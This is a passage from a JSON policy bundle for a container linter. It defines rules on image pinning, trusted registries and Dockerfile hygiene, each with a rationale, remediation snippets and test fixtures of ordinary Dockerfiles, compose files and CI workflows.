${APP_IMAGE:-ghcr.io/example/app}\\n","expect":[{"line":3,"column":5,"endLine":3,"endColumn":17},{"line":5,"column":5},{"line":9,"column":5}]},{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\\n  proxy:\\n    image: \\"${PROXY_IMAGE:-traefik:v3.1}\\"\\n  registry:\\n    image: localhost:5000/team/app:2.1.0\\n","expect":[]},{"file":"Dockerfile","content":"ARG BASE=python:latest\\nFROM golang AS build\\nRUN go build -o /out/app ./...\\n\\nFROM ${BASE}\\nCOPY --from=build /out/app /usr/local/bin/app\\n","expect":[{"line":2,"column":6,"endLine":2,"endColumn":12},{"line":5,"column":6}]},{"file":"Dockerfile","content":"ARG NODE_IMAGE\\nFROM node:22-bookworm-slim AS deps\\nRUN npm ci\\n\\nFROM deps AS test\\nRUN npm test\\n\\nFROM ${NODE_IMAGE}\\nCOPY --from=deps /app /app\\n\\nFROM scratch\\nCOPY --from=deps /app /app\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container: node\\n    services:\\n      redis:\\n        image: redis:latest\\n      db:\\n        image: ${{ matrix.db }}\\n    steps:\\n      - uses: docker://alpine\\n      - run: docker run --rm -v \\"$PWD:/src\\" hadolint/hadolint hadolint /src/Dockerfile\\n","expect":[{"line":5,"column":5,"endLine":5,"endColumn":20},{"line":8,"column":9},{"line":12,"column":9,"endLine":12,"endColumn":30},{"line":13,"column":14}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n    steps:\\n      - uses: docker://alpine:3.20\\n      - run: |\\n          docker run --rm \\"${IMAGE}\\" true\\n          docker run --rm ghcr.io/example/tool:1.2.0 true\\n","expect":[]}],"source":"policies/docker/image-latest-tag.yaml"},{"id":"image-not-pinned-by-digest","pack":"docker","title":"Image is not pinned by digest","severity":"low","subject":"image","when":{"properties":{"isVariable":{"const":false}}},"schema":{"required":["digest"],"properties":{"digest":{"pattern":{"$param":"digest"}}}},"message":"`{{subject.ref}}` is not pinned by a full `@sha256:` digest, so the registry can serve different content under this name at any time and this file does not say which image actually runs. Append the digest, e.g. `nginx:1.27@sha256:<digest>`, and let Dependabot or Renovate keep it current.","rationale":"Tags are mutable pointers: a publisher (or anyone who takes over the publisher\'s account or registry) can push new content under an existing tag, and the next pull or build uses it without any change in the repository. A `@sha256:` digest names the exact content and is checked by Docker on pull, which makes builds reproducible and a swapped image detectable. Docker\'s build best practices and the OWASP cheat sheet\'s supply-chain guidance recommend pinning by digest; OpenSSF Scorecard checks it. The rule is low severity because it concerns nearly every image in a typical repository; raise it where the supply chain matters most.","remediation":"Keep the tag for readers and add the digest it currently resolves to\\n(`docker buildx imagetools inspect nginx:1.27` prints it):\\n\\n```dockerfile\\nFROM nginx:1.27@sha256:<64 hex digits>\\n```\\n\\n```yaml\\nservices:\\n  web:\\n    image: nginx:1.27@sha256:<64 hex digits>\\n```\\n\\nDependabot (`package-ecosystem: docker`) and Renovate update pinned digests through pull\\nrequests, so pinning does not mean falling behind on security fixes.","references":[{"framework":"owasp-docker","id":"RULE #13"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#pin-base-image-versions"}],"params":{"digest":"^sha256:[0-9a-f]{64}$"},"paramSchemas":{"digest":{"schema":{"type":"string","format":"regex","minLength":1},"description":"What a pinned digest looks like."}},"tests":[{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n  cache:\\n    image: redis@sha256:0123\\n  db:\\n    image: postgres:16@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\\n  app:\\n    image: ${APP_IMAGE:-ghcr.io/example/app:1.4.2}\\n","expect":[{"line":3,"column":5,"endLine":3,"endColumn":22},{"line":5,"column":5},{"line":9,"column":5}]},{"file":"compose.yaml","content":"x-image: &image\\n  image: ghcr.io/example/app:1.4.2@sha256:89abcdef0123456789abcdef0123456789abcdef0123456789abcdef01234567\\nservices:\\n  app:\\n    <<: *image\\n  worker:\\n    <<: *image\\n    command: [\\"worker\\"]\\n","expect":[]},{"file":"Dockerfile","content":"ARG GO_VERSION=1.23\\nFROM golang:${GO_VERSION} AS build\\nRUN go build -o /out/app ./...\\n\\nFROM build AS test\\nRUN go test ./...\\n\\nFROM gcr.io/distroless/static-debian12@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\\nCOPY --from=build /out/app /app\\n","expect":[{"line":2,"column":6,"endLine":2,"endColumn":26}]},{"file":"Dockerfile","content":"ARG BASE_IMAGE\\nFROM ${BASE_IMAGE} AS base\\nFROM base\\nFROM scratch\\nCOPY --from=base /etc/ssl/certs /etc/ssl/certs\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n    services:\\n      db:\\n        image: ${{ matrix.db }}\\n    steps:\\n      - uses: docker://ghcr.io/example/linter:2.0.0\\n      - run: |\\n          docker run --rm ghcr.io/example/tool@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef true\\n          docker run --rm alpine:3.20 true\\n","expect":[{"line":6,"column":7,"endLine":6,"endColumn":21},{"line":11,"column":9},{"line":14,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container: node:22@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\\n    steps:\\n      - uses: docker://alpine:3.20@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\\n      - run: docker run --rm \\"$IMAGE\\" true\\n","expect":[]}],"source":"policies/docker/image-not-pinned-by-digest.yaml"},{"id":"image-untrusted-registry","pack":"docker","title":"Image comes from a registry that is not on the trusted list","severity":"low","subject":"image","when":{"properties":{"isVariable":{"const":false}}},"schema":{"properties":{"registry":{"enum":{"$param":"trustedRegistries"}}}},"message":"`{{subject.ref}}` is pulled from `{{value}}`, which is not one of the registries this repository trusts, so nobody has agreed to run code from it. Use an image from a trusted registry or mirror, or add the registry to the `trustedRegistries` parameter after review.","rationale":"An image runs with whatever code its registry serves. A typo-squatted host, an abandoned personal registry or an unauthenticated internal mirror can serve a tampered image under a familiar name, and scanning and signing policies usually apply only to the registries an organisation controls. The CIS Docker Benchmark (4.2) asks that containers use only trusted base images. The `trustedRegistries` parameter lists the hosts accepted; the default accepts Docker Hub, GitHub\'s registry, the registries Microsoft, Google, Kubernetes, AWS, Chainguard and Elastic serve their own images from, and a local registry. Other community registries (quay.io, \u2026) are reported until a team adds them.","remediation":"Pull the image through a registry you trust (your own, or a mirror of the public one), or add\\nthe registry to the list in `.github/containment.yml`:\\n\\n```yaml\\nparams:\\n  image-untrusted-registry:\\n    trustedRegistries: [registry.example.com, ghcr.io]\\n```","references":[{"framework":"cis-docker","id":"1.6.0:4.2"},{"framework":"url","url":"https://docs.docker.com/docker-hub/image-library/trusted-content/"}],"params":{"trustedRegistries":["docker.io","ghcr.io","mcr.microsoft.com","gcr.io","registry.k8s.io","public.ecr.aws","cgr.dev","docker.elastic.co","localhost","localhost:5000"]},"paramSchemas":{"trustedRegistries":{"schema":{"type":"array","items":{"type":"string","minLength":1}},"description":"Registry hosts (as Docker resolves them: `docker.io` for Docker Hub) images may be pulled from. The default is Docker Hub, GitHub\'s registry (where actions and this repository\'s own images usually live), and the registries that vendors serve their own images from; a local registry. Replace the list with your organisation\'s registries and mirrors."}},"tests":[{"file":"compose.yaml","content":"services:\\n  app:\\n    image: registry.example.net/team/app:1.4.2\\n  web:\\n    image: nginx:1.27\\n  cache:\\n    image: ghcr.io/example/cache:2.0.0\\n","expect":[{"line":3,"column":5,"endLine":3,"endColumn":47}]},{"file":"compose.yaml","content":"services:\\n  web:\\n    image: docker.io/library/nginx:1.27\\n  tool:\\n    image: registry.k8s.io/pause:3.10\\n  local:\\n    image: localhost:5000/app:dev\\n","expect":[]},{"file":"Dockerfile","content":"FROM registry.example.net/base/python:3.12 AS build\\nRUN pip wheel -w /wheels .\\nFROM python:3.12-slim\\nCOPY --from=build /wheels /wheels\\n","expect":[{"line":1,"column":6,"endLine":1,"endColumn":43}]},{"file":"Dockerfile","content":"ARG REGISTRY\\nFROM ${REGISTRY}/base/python:3.12\\nFROM mcr.microsoft.com/dotnet/aspnet:8.0\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container: registry.example.net/ci/node:22\\n    steps:\\n      - uses: docker://registry.example.net/tools/lint:1.0.0\\n      - run: docker run --rm ghcr.io/example/tool:1.2.0 true\\n","expect":[{"line":5,"column":5},{"line":7,"column":9}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n    services:\\n      db:\\n        image: ${{ matrix.db }}\\n    steps:\\n      - uses: docker://ghcr.io/example/linter:2.0.0\\n","expect":[]}],"source":"policies/docker/image-untrusted-registry.yaml"}],"source":"policies/docker"},{"id":"dockerfile-hygiene","title":"Dockerfile build hygiene","description":"Docker\'s build best practices and build checks, and the CIS Docker Benchmark\'s image-build items that are about maintainability more than attack surface: package manager use, ADD versus COPY, WORKDIR, CMD and ENTRYPOINT form, deprecated instructions. Findings are low or informational; they make images smaller, reproducible and predictable rather than close a hole.","version":"0.1.0","rules":[{"id":"command-apt-install-recommends","pack":"dockerfile-hygiene","title":"apt installs recommended packages too","severity":"info","subject":"command","when":{"properties":{"origin":{"const":"dockerfile"},"name":{"enum":["apt-get","apt"]},"args":{"contains":{"const":"install"}}}},"schema":{"properties":{"args":{"not":{"items":{"not":{"pattern":"^--no-install-recommends$|Install-Recommends=(false|0)$"}}}}}},"message":"`{{subject.name}} install` without `--no-install-recommends` also pulls in every package the ones you named merely recommend, adding size and attack surface nobody asked for. Add `--no-install-recommends` and name what you need.","rationale":"Debian and Ubuntu install \\"recommended\\" packages by default, which often doubles what an `apt-get install` brings in: documentation, optional helpers, sometimes daemons. Each is more to download, scan and patch. Docker\'s best practices and the CIS Docker Benchmark (4.3, no unnecessary packages) recommend installing only what the image needs.","remediation":"```dockerfile\\nRUN apt-get update \\\\\\n && apt-get install -y --no-install-recommends python3 ca-certificates \\\\\\n && rm -rf /var/lib/apt/lists/*\\n```","references":[{"framework":"cis-docker","id":"1.6.0:4.3"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#apt-get"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM debian:12\\nRUN apt-get update && apt-get install -y python3 \\\\\\n && rm -rf /var/lib/apt/lists/*\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":49}]},{"file":"Dockerfile","content":"FROM debian:12\\nRUN apt-get update && apt-get install -y --no-install-recommends python3 \\\\\\n && apt-get -o APT::Install-Recommends=false install -y git \\\\\\n && rm -rf /var/lib/apt/lists/*\\n","expect":[]}],"source":"policies/dockerfile-hygiene/command-apt-install-recommends.yaml"},{"id":"command-package-install-not-noninteractive","pack":"dockerfile-hygiene","title":"Package install would wait for a confirmation","severity":"low","subject":"command","when":{"properties":{"origin":{"const":"dockerfile"}}},"schema":{"allOf":[{"if":{"properties":{"name":{"enum":["apt-get","apt"]},"args":{"contains":{"enum":["install","upgrade","dist-upgrade","full-upgrade","remove","purge"]}}}},"then":{"$ref":"#/$defs/assumesYes"}},{"if":{"properties":{"name":{"enum":["yum","dnf","microdnf","tdnf"]},"args":{"contains":{"enum":["install","update","upgrade","remove","erase"]}}}},"then":{"$ref":"#/$defs/assumesYes"}},{"if":{"properties":{"name":{"const":"zypper"},"args":{"contains":{"enum":["install","in","update","up","remove","rm"]}}}},"then":{"properties":{"args":{"not":{"items":{"not":{"pattern":"^(-n|--non-interactive|-y|--no-confirm)$"}}}}}}}],"$defs":{"assumesYes":{"properties":{"args":{"not":{"items":{"not":{"pattern":"^(-[a-xzA-Z]*y[a-zA-Z]*|--yes|--assume-yes|-qq)$"}}}}}}}},"message":"`{{subject.name}}` is run without `-y`, so it stops to ask for confirmation, which a build cannot give: it aborts (or, with some tools, proceeds differently than expected). Add `-y` (zypper: `-n`).","rationale":"A Docker build has no terminal to answer prompts. Package managers that ask \\"Do you want to continue?\\" read end-of-file and abort the install, or the build only works while nothing new needs confirming and breaks later. Docker\'s best practices use `apt-get install -y`.","remediation":"```dockerfile\\nRUN apt-get update && apt-get install -y --no-install-recommends curl \\\\\\n && rm -rf /var/lib/apt/lists/*\\nRUN dnf install -y git && dnf clean all\\n```","references":[{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#apt-get"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM fedora:40\\nRUN dnf install git\\nRUN zypper install curl\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":20},{"line":3,"column":1}]},{"file":"Dockerfile","content":"FROM debian:12\\nRUN apt-get update && apt-get -qy install --no-install-recommends git \\\\\\n && rm -rf /var/lib/apt/lists/*\\nFROM opensuse/leap:15.6\\nRUN zypper -n install curl\\n","expect":[]}],"source":"policies/dockerfile-hygiene/command-package-install-not-noninteractive.yaml"},{"id":"command-package-version-not-pinned","pack":"dockerfile-hygiene","title":"Package installed without a version","severity":"info","subject":"command","when":{"properties":{"origin":{"const":"dockerfile"}}},"schema":{"allOf":[{"if":{"properties":{"name":{"enum":["apt-get","apt"]},"args":{"contains":{"const":"install"}}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^[a-z0-9][a-z0-9.+-]*$","not":{"enum":["install"]}}}}}}},{"if":{"properties":{"name":{"const":"apk"},"args":{"contains":{"const":"add"}}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^[a-z0-9][a-z0-9.+_-]*$","not":{"enum":["add"]}}}}}}},{"if":{"properties":{"name":{"enum":["pip","pip3"]},"args":{"contains":{"const":"install"}}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^[A-Za-z0-9][A-Za-z0-9._-]*(\\\\[[A-Za-z0-9,._-]+\\\\])?$","not":{"anyOf":[{"enum":["install","pip","setuptools","wheel"]},{"pattern":"\\\\.(txt|in|whl|gz|zip|toml|cfg|py)$"}]}}}}}}},{"if":{"properties":{"name":{"enum":["npm","pnpm"]},"args":{"allOf":[{"contains":{"enum":["install","i","add"]}},{"contains":{"enum":["-g","--global"]}}]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^(@[a-z0-9][a-z0-9._~-]*/)?[a-z0-9][a-z0-9._~-]*$","not":{"enum":["install","i","add"]}}}}}}}]},"message":"`{{value}}` is installed without a version, so each build may get a different one, and a rebuild to fix one thing can silently change another. Pin it (`{{value}}=1.2.3` for apt and apk, `{{value}}==1.2.3` for pip, `{{value}}@1.2.3` for npm).","rationale":"An unpinned package resolves to whatever the mirror offers at build time. Builds stop being reproducible, a rebuild for an unrelated change can pull in a new major version or a compromised release, and nobody can tell from the Dockerfile which version an image contains. Docker\'s best practices recommend version pinning; it also lets Dependabot or Renovate propose updates. This is informational: some teams deliberately take the distribution\'s current security release and rely on scanning instead.","remediation":"```dockerfile\\nRUN apt-get update \\\\\\n && apt-get install -y --no-install-recommends curl=8.5.0-2ubuntu10.6 \\\\\\n && rm -rf /var/lib/apt/lists/*\\nRUN pip install --no-cache-dir requests==2.32.3\\nRUN npm install -g typescript@5.6.3\\n```\\n\\nOr install from a lock file (`pip install -r requirements.txt` with hashes, `npm ci`).","references":[{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#apt-get"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM python:3.12-slim\\nRUN apt-get update && apt-get install -y --no-install-recommends git curl=7.88.1-10+deb12u8 \\\\\\n && rm -rf /var/lib/apt/lists/*\\nRUN pip install --no-cache-dir flask requests==2.32.3\\nRUN npm install -g typescript\\n","expect":[{"line":2,"column":1},{"line":4,"column":1},{"line":5,"column":1}]},{"file":"Dockerfile","content":"FROM alpine:3.20\\nRUN apk add --no-cache git=2.45.2-r0 \\"curl>8\\"\\nRUN pip install --no-cache-dir -r requirements.txt --upgrade pip\\nRUN npm install && npm install -g npm@10.9.0\\n","expect":[]}],"source":"policies/dockerfile-hygiene/command-package-version-not-pinned.yaml"},{"id":"command-run-cd","pack":"dockerfile-hygiene","title":"RUN changes directory with cd (use WORKDIR)","severity":"info","subject":"command","when":{"properties":{"origin":{"const":"dockerfile"}}},"schema":{"properties":{"name":{"not":{"const":"cd"}}}},"message":"`cd` in a RUN only lasts until the end of that RUN, so the next instruction silently runs somewhere else, and the Dockerfile is harder to follow. Use `WORKDIR /path` to change directory.","rationale":"Each RUN starts in the current WORKDIR; a `cd` changes directory for the rest of that one shell only. Chaining `cd` into long RUN lines hides where files are created and tempts later edits to assume the directory carried over. Docker\'s best practices recommend WORKDIR over `RUN cd \u2026 &&`. Informational: a `cd` into a temporary directory within one RUN is sometimes the clearest way.","remediation":"```dockerfile\\nWORKDIR /src/app\\nRUN make install\\n```","references":[{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#workdir"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM golang:1.23\\nCOPY . /src\\nRUN cd /src && go build -o /out/app ./cmd/app\\n","expect":[{"line":3,"column":1,"endLine":3,"endColumn":46}]},{"file":"Dockerfile","content":"FROM golang:1.23\\nWORKDIR /src\\nCOPY . .\\nRUN go build -o /out/app ./cmd/app\\n","expect":[]}],"source":"policies/dockerfile-hygiene/command-run-cd.yaml"},{"id":"command-sudo","pack":"dockerfile-hygiene","title":"sudo used in a Dockerfile RUN","severity":"low","subject":"command","when":{"properties":{"origin":{"const":"dockerfile"}}},"schema":{"properties":{"sudo":{"const":false},"name":{"not":{"const":"sudo"}}}},"message":"`sudo {{subject.name}}` in a Dockerfile: RUN already runs as the current USER, and sudo in the image gives every process that runs as that user a way to become root. Switch with `USER root` for the steps that need it and back to the unprivileged user afterwards.","rationale":"Build steps run as whatever USER is in effect, so sudo is never needed to build; keeping it in the image means it, and a sudoers entry, are present at run time, where they turn a compromise of the application user into root. sudo also has TTY and signal-forwarding behaviour that makes it unpredictable as PID 1. Docker\'s best practices advise against installing or using sudo in images.","remediation":"```dockerfile\\nUSER root\\nRUN apt-get update && apt-get install -y --no-install-recommends ca-certificates \\\\\\n && rm -rf /var/lib/apt/lists/*\\nUSER 10001\\n```\\n\\nIf something must switch user at run time, use `gosu` or `setpriv` in the entrypoint.","references":[{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#user"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM ubuntu:24.04\\nUSER ubuntu\\nRUN sudo apt-get update \\\\\\n && sudo -E apt-get install -y --no-install-recommends curl\\n","expect":[{"line":3,"column":1,"endLine":3,"endColumn":24},{"line":4,"column":2}]},{"file":"Dockerfile","content":"FROM ubuntu:24.04\\nUSER root\\nRUN apt-get update && apt-get install -y --no-install-recommends curl\\nUSER ubuntu\\n","expect":[]}],"source":"policies/dockerfile-hygiene/command-sudo.yaml"},{"id":"dockerfile-add-instead-of-copy","pack":"dockerfile-hygiene","title":"ADD used to copy local files (use COPY)","severity":"low","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"not":{"required":["keyword","args"],"properties":{"keyword":{"const":"ADD"},"args":{"prefixItems":[{"not":{"pattern":{"$param":"specialSource"}}}]}}}}}}},"message":"This ADD in stage {{name}} copies local files; use COPY, which does only that, so nobody has to wonder whether a file will be fetched or unpacked. Write `COPY` with the same arguments.","rationale":"ADD does more than copy: it downloads URLs, clones Git repositories and unpacks local tar archives, and which of these happens depends on what the source turns out to be. COPY only copies, so the Dockerfile says exactly what it does. Docker\'s best practices and the CIS Docker Benchmark (4.9) recommend COPY for local files and ADD only for its special cases.","remediation":"```dockerfile\\nCOPY requirements.txt /app/\\nCOPY --chown=10001:10001 src/ /app/src/\\n```\\n\\nKeep ADD for unpacking a local archive (`ADD rootfs.tar.gz /`) or for a remote source with\\n`--checksum`.","references":[{"framework":"cis-docker","id":"1.6.0:4.9"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#add-or-copy"}],"params":{"specialSource":"^(https?://|git@|[a-z]+://)|\\\\.(tar|tar\\\\.gz|tgz|tar\\\\.bz2|tbz2?|tar\\\\.xz|txz|tar\\\\.zst)$"},"paramSchemas":{"specialSource":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A first source that ADD does something special with: a URL or Git reference (judged by dockerfile-add-url-without-checksum) or a local archive that ADD unpacks."}},"tests":[{"file":"Dockerfile","content":"FROM python:3.12-slim\\nADD requirements.txt /app/\\nADD --chown=10001 src/ /app/src/\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":27},{"line":3,"column":1}]},{"file":"Dockerfile","content":"FROM scratch\\nADD rootfs.tar.xz /\\nADD --checksum=sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef https://example.com/tool.tgz /tmp/\\nCOPY app /app\\n","expect":[]}],"source":"policies/dockerfile-hygiene/dockerfile-add-instead-of-copy.yaml"},{"id":"dockerfile-apt-lists-not-removed","pack":"dockerfile-hygiene","title":"apt package lists left in the image","severity":"info","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"not":{"required":["keyword","args","flags"],"properties":{"keyword":{"const":"RUN"},"args":{"allOf":[{"contains":{"enum":["apt-get","apt"]}},{"contains":{"const":"install"}},{"not":{"contains":{"pattern":"^/var/lib/apt/lists"}}}]},"flags":{"not":{"required":["mount"],"properties":{"mount":{"contains":{"pattern":"target=/var/(lib|cache)/apt"}}}}}}}}}}},"message":"This RUN in stage {{name}} installs with apt but leaves `/var/lib/apt/lists` in the layer, adding tens of megabytes of stale package index to the image. End the same RUN with `&& rm -rf /var/lib/apt/lists/*`, or use a cache mount.","rationale":"The package lists that `apt-get update` downloads are only needed while installing. Left in the layer, they make the image larger and record an index that is out of date by the time the image runs. Removing them in the same RUN keeps them out of every layer; deleting them in a later RUN does not. Docker\'s best practices show the pattern.","remediation":"```dockerfile\\nRUN apt-get update \\\\\\n && apt-get install -y --no-install-recommends curl \\\\\\n && rm -rf /var/lib/apt/lists/*\\n```\\n\\nor, with BuildKit, keep the lists in a cache mount:\\n`RUN --mount=type=cache,target=/var/lib/apt,sharing=locked apt-get update && apt-get install -y curl`.","references":[{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#apt-get"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM debian:12\\nRUN apt-get update && apt-get install -y --no-install-recommends curl\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":70}]},{"file":"Dockerfile","content":"# syntax=docker/dockerfile:1\\nFROM debian:12\\nRUN apt-get update && apt-get install -y --no-install-recommends curl \\\\\\n && rm -rf /var/lib/apt/lists/*\\nRUN --mount=type=cache,target=/var/lib/apt,sharing=locked \\\\\\n    apt-get update && apt-get install -y --no-install-recommends git\\n","expect":[]}],"source":"policies/dockerfile-hygiene/dockerfile-apt-lists-not-removed.yaml"},{"id":"dockerfile-apt-update-alone","pack":"dockerfile-hygiene","title":"Package index updated in a RUN of its own","severity":"low","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"not":{"required":["keyword","args"],"properties":{"keyword":{"const":"RUN"},"args":{"allOf":[{"contains":{"enum":["apt-get","apt","apk"]}},{"contains":{"const":"update"}},{"not":{"contains":{"enum":["install","upgrade","dist-upgrade","full-upgrade","add"]}}}]}}}}}}},"message":"This RUN in stage {{name}} updates the package index without installing anything, so the layer is cached and later builds install from a stale index (old versions, or 404s). Update and install in one RUN: `RUN apt-get update && apt-get install -y \u2026 && rm -rf /var/lib/apt/lists/*`.","rationale":"Docker caches each instruction\'s layer by its text. A RUN that only runs `apt-get update` is reused as is on every later build, so an `apt-get install` in a following RUN works from whatever index was fetched the first time: it misses security updates or fails on packages the mirror has since removed. Docker\'s best practices and the CIS Docker Benchmark (4.7) ask that update instructions not be used alone.","remediation":"```dockerfile\\nRUN apt-get update \\\\\\n && apt-get install -y --no-install-recommends ca-certificates curl \\\\\\n && rm -rf /var/lib/apt/lists/*\\n```","references":[{"framework":"cis-docker","id":"1.6.0:4.7"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#apt-get"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM debian:12\\nRUN apt-get update\\nRUN apt-get install -y --no-install-recommends curl\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":19}]},{"file":"Dockerfile","content":"FROM debian:12\\nRUN apt-get update && apt-get install -y --no-install-recommends curl \\\\\\n && rm -rf /var/lib/apt/lists/*\\nFROM alpine:3.20\\nRUN apk update && apk add git\\n","expect":[]}],"source":"policies/dockerfile-hygiene/dockerfile-apt-update-alone.yaml"},{"id":"dockerfile-maintainer-deprecated","pack":"dockerfile-hygiene","title":"MAINTAINER instruction is deprecated","severity":"info","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"properties":{"keyword":{"not":{"const":"MAINTAINER"}}}}}}},"message":"MAINTAINER is deprecated and may be removed from Docker. Write the author as a label instead: `LABEL org.opencontainers.image.authors=\\"team@example.com\\"`.","rationale":"The MAINTAINER instruction has been deprecated since Docker 1.13 in favour of labels, which tools read in a standard way (the OCI `org.opencontainers.image.authors` annotation). BuildKit\'s MaintainerDeprecated check reports it.","remediation":"```dockerfile\\nLABEL org.opencontainers.image.authors=\\"platform-team@example.com\\"\\n```","references":[{"framework":"docker-build-check","id":"MaintainerDeprecated"},{"framework":"url","url":"https://docs.docker.com/reference/build-checks/maintainer-deprecated/"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM alpine:3.20\\nMAINTAINER Jane Doe <jane@example.com>\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":11}]},{"file":"Dockerfile","content":"FROM alpine:3.20\\nLABEL org.opencontainers.image.authors=\\"jane@example.com\\"\\n","expect":[]}],"source":"policies/dockerfile-hygiene/dockerfile-maintainer-deprecated.yaml"},{"id":"dockerfile-multiple-cmd-entrypoint","pack":"dockerfile-hygiene","title":"Stage has more than one CMD, ENTRYPOINT or HEALTHCHECK","severity":"low","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"allOf":[{"not":{"contains":{"required":["keyword"],"properties":{"keyword":{"const":"CMD"}}},"minContains":2}},{"not":{"contains":{"required":["keyword"],"properties":{"keyword":{"const":"ENTRYPOINT"}}},"minContains":2}},{"not":{"contains":{"required":["keyword"],"properties":{"keyword":{"const":"HEALTHCHECK"}}},"minContains":2}}]}}},"message":"Stage {{name}} has more than one CMD, ENTRYPOINT or HEALTHCHECK; only the last of each takes effect, so the earlier ones mislead whoever reads the file. Keep one of each.","rationale":"An image has a single CMD, ENTRYPOINT and HEALTHCHECK; each new one replaces the previous one in the same stage. Leftover instructions usually come from copy-paste or a merge and make a reader believe the container starts differently than it does. BuildKit\'s MultipleInstructionsDisallowed check reports them.","remediation":"```dockerfile\\nENTRYPOINT [\\"/app/server\\"]\\nCMD [\\"--port\\", \\"8080\\"]\\n```","references":[{"framework":"docker-build-check","id":"MultipleInstructionsDisallowed"},{"framework":"url","url":"https://docs.docker.com/reference/build-checks/multiple-instructions-disallowed/"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM node:22-slim AS app\\nCOPY . /app\\nCMD [\\"node\\", \\"/app/server.js\\"]\\nCMD [\\"node\\", \\"/app/worker.js\\"]\\n","expect":[{"line":1,"column":6,"endLine":1,"endColumn":18}]},{"file":"Dockerfile","content":"FROM node:22-slim AS build\\nCMD [\\"npm\\", \\"test\\"]\\n\\nFROM node:22-slim\\nHEALTHCHECK CMD [\\"node\\", \\"/app/health.js\\"]\\nCMD [\\"node\\", \\"/app/server.js\\"]\\n","expect":[]}],"source":"policies/dockerfile-hygiene/dockerfile-multiple-cmd-entrypoint.yaml"},{"id":"dockerfile-package-cache-kept","pack":"dockerfile-hygiene","title":"Package manager cache left in the image","severity":"info","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"not":{"required":["keyword","args","flags"],"properties":{"keyword":{"const":"RUN"},"args":{"anyOf":[{"allOf":[{"contains":{"const":"apk"}},{"contains":{"const":"add"}},{"not":{"contains":{"const":"--no-cache"}}}]},{"allOf":[{"contains":{"enum":["pip","pip3"]}},{"contains":{"const":"install"}},{"not":{"contains":{"const":"--no-cache-dir"}}}]}]},"flags":{"not":{"required":["mount"],"properties":{"mount":{"contains":{"pattern":"type=cache"}}}}}}}}}}},"message":"This RUN in stage {{name}} leaves apk\'s or pip\'s download cache in the layer, adding size and nothing else to the image. Add `--no-cache` (apk) or `--no-cache-dir` (pip), or use a BuildKit cache mount.","rationale":"`apk add` keeps the package index under /var/cache/apk and pip keeps every downloaded wheel under ~/.cache/pip unless told not to. In an image these are dead weight (often tens of megabytes) and go stale immediately. Docker\'s best practices recommend keeping caches out of layers, either by not writing them or by using cache mounts, which persist between builds without entering the image.","remediation":"```dockerfile\\nRUN apk add --no-cache git=2.45.2-r0\\nRUN pip install --no-cache-dir -r requirements.txt\\n# or share the cache between builds without putting it in a layer:\\nRUN --mount=type=cache,target=/root/.cache/pip pip install -r requirements.txt\\n```","references":[{"framework":"url","url":"https://docs.docker.com/build/cache/optimize/#use-cache-mounts"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#run"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM python:3.12-alpine\\nRUN apk add git=2.45.2-r0\\nRUN pip install -r 